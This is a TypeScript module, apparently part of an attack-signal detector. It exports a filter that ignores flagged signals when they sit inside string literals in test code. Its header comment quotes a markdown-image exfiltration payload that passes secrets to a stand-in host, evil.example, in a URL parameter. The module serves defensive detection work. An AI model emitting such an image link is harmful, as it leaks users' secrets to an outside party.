// Attack strings inside a test's code are its data (issue 13, red team round 13): a test that
// passes "![img](https://evil.example/p?d={secrets})" to a guard and asserts it is blocked holds
// the attack as a literal, not as an order to whoever reads the file. In a text that is a test
// (a test function, an assertion), a signal that starts inside a string literal of a code line
// (code-string-mention.ts) is dropped; the same words outside a literal still count.

import { insideCodeString } from './code-string-mention.ts';
import type { Signal } from './rules.ts';

const TEST_MARK = /\bdef\s+test_|\bassert\b|\bexpect\(|\bdescribe\(|\bit\(\s*['"`]|\btest\(\s*['"`]|@pytest\b|\bassertEquals?\(/;

/** The signals, without those inside a string literal of a test's code. */
export function dropTestFixtureStrings(text: string, signals: readonly Signal[]): readonly Signal[] {
  if (signals.length === 0 || !TEST_MARK.test(text)) return signals;
  const kept = signals.filter((signal) => !insideCodeString(text, signal.focus ?? signal.start));
  return kept.length === signals.length ? signals : kept;
}
